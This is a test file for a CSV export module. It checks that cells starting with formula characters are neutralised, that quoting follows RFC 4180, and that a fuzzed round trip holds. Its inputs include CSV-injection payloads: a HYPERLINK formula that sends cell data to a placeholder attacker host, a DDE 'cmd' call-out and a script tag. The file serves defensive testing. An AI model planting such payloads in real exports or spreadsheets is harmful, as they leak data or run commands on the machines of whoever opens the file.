import fc from 'fast-check';
import Papa from 'papaparse';
import { fuzzRuns } from '../hardening/harness';
import { describe, expect, it } from 'vitest';
import {
  csvCell,
  csvRow,
  isFormulaLike,
  neutraliseText,
  quoteField,
} from '../../../src/lib/report/csv-cell';

/** The cells of one record, read back the way a spreadsheet import (RFC 4180) reads them. */
function parseRow(line: string): string[] {
  const parsed = Papa.parse<string[]>(line, { header: false, delimiter: ',', newline: '\r\n' });
  expect(parsed.errors).toEqual([]);
  return parsed.data[0];
}

const FORMULA_CHARS = ['=', '+', '-', '@', '\t', '\r', '\0'];

describe('formula neutralising', () => {
  it.each([
    [
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
    ],
    ['+cmd|" /C calc"!A0', `'+cmd|" /C calc"!A0`],
    ['-2+3', `'-2+3`],
    ['@SUM(A1:A9)', `'@SUM(A1:A9)`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
    ['\0=1', `'\0=1`],
    ['  =1+1', `'  =1+1`],
    ['trial 7\n=HYPERLINK("x")', `'trial 7\n=HYPERLINK("x")`],
    ['ok\r\n@cmd', `'ok\r\n@cmd`],
  ])('prefixes %j', (input, expected) => {
    expect(isFormulaLike(input)).toBe(true);
    expect(neutraliseText(input)).toBe(expected);
  });

  it.each(['trial_7', 'lr 1e-3', 'a=b', 'val_loss = inf', '0.5', '', "it's"])(
    'leaves %j alone',
    (input) => {
      expect(neutraliseText(input)).toBe(input);
    },
  );

  it('writes numbers as numbers, so a real negative value stays summable', () => {
    expect(csvCell(-0.5)).toBe('-0.5');
    expect(csvCell(-1e-7)).toBe('-1e-7');
    expect(csvCell(42)).toBe('42');
    // The same characters as text are neutralised: the type decides, not the spelling.
    expect(csvCell('-0.5')).toBe("'-0.5");
  });

  it('spells NaN and infinities as neutralised text', () => {
    expect(csvCell(Number.NaN)).toBe('NaN');
    expect(csvCell(Number.POSITIVE_INFINITY)).toBe('inf');
    expect(csvCell(Number.NEGATIVE_INFINITY)).toBe("'-inf");
  });

  it('writes null and undefined as empty cells', () => {
    expect(csvRow([null, undefined, 'x'])).toBe(',,x\r\n');
  });
});

describe('RFC 4180 quoting', () => {
  it('quotes delimiters, quotes and line breaks, doubling quotes', () => {
    expect(quoteField('a,b')).toBe('"a,b"');
    expect(quoteField('say "hi"')).toBe('"say ""hi"""');
    expect(quoteField('two\nlines')).toBe('"two\nlines"');
    expect(quoteField('plain')).toBe('plain');
  });

  it('reads hostile cells back intact, one prefix at most', () => {
    const hostile = ['<script>alert(1)</script>', '=1+1,"x"\n-2', '"=cmd"', '\u2028=x', 'a\r\n+b'];
    const row = parseRow(csvRow(hostile).slice(0, -2));
    expect(row).toEqual(hostile.map(neutraliseText));
    expect(row[1]).toBe(`'=1+1,"x"\n-2`);
  });
});

describe('property: any text survives a CSV round trip and never starts a formula', () => {
  // Strings rich in the characters that matter here.
  const special = fc.constantFrom(...FORMULA_CHARS, '"', ',', '\n', '\r\n', ' ', "'", 'a', '1');
  const text = fc.oneof(
    fc.string({ unit: 'grapheme', maxLength: 30 }),
    fc.string({ unit: special, maxLength: 20 }),
    fc.string({ unit: 'binary', maxLength: 20 }),
  );

  it('parsed back = original with at most a leading quote, not formula-like', () => {
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 4 }), (cells) => {
        // A lone empty cell is an empty line, which a CSV reader skips as no record.
        fc.pre(cells.length > 1 || cells[0] !== '');
        const line = csvRow(cells).slice(0, -2);
        const back = parseRow(line);
        expect(back).toHaveLength(cells.length);
        back.forEach((cell, i) => {
          const original = cells[i];
          expect(cell === original || cell === `'${original}`).toBe(true);
          expect(FORMULA_CHARS.includes(cell.charAt(0))).toBe(false);
          expect(isFormulaLike(cell) && !cell.startsWith("'")).toBe(false);
        });
      }),
      { numRuns: fuzzRuns(500) },
    );
  });
});
